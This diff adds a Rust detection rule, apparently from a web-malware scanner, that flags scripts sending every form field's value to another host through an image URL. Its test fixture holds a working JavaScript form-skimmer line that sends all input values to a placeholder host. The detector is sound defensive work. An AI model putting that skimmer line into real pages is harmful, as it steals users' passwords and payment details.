@@ -1,0 +1,37 @@
+//! `all-fields-in-address`.
+
+use crate::facts::Atom;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "all-fields-in-address",
+    description: "The values of all fields are put into the address of an image on another host.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::FieldInAddress]), one(&[Atom::FieldQuery, Atom::FormContents])],
+    within: 120,
+    only_if: Some(collects),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var o='',l=document.getElementsByTagName('input');for(var i=0;i<l.length;i++)o+='&'+l[i].name+'='+l[i].value;new Image().src='http://c.example/log.php?'+o",
+        ],
+        without: &[
+            "var q=document.querySelector('input[name=q]').value;img.src='https://c.example/preview?q='+q",
+            "var l=document.getElementsByTagName('input');for(var i=0;i<l.length;i++)l[i].value='';new Image().src='http://c.example/reset.gif'",
+        ],
+    },
+};
+
+/// Whether the fields of a page are gone through, not those of one form: a list of them, and a loop.
+fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
+    let (stream, items) = (evidence.stream, evidence.stream.items());
+    let from = (held.first as usize).saturating_sub(BEFORE);
+    let place = &items[from..=(held.last as usize).min(items.len() - 1)];
+    let has = |words: &[&str]| place.iter().any(|item| words.contains(&stream.text(item)));
+    has(&["getElementsByTagName", "querySelectorAll"]) && has(&["for", "forEach", "map", "reduce"])
+}
+
+/// Items of the loop's head before the first value is read.
+const BEFORE: usize = 40;
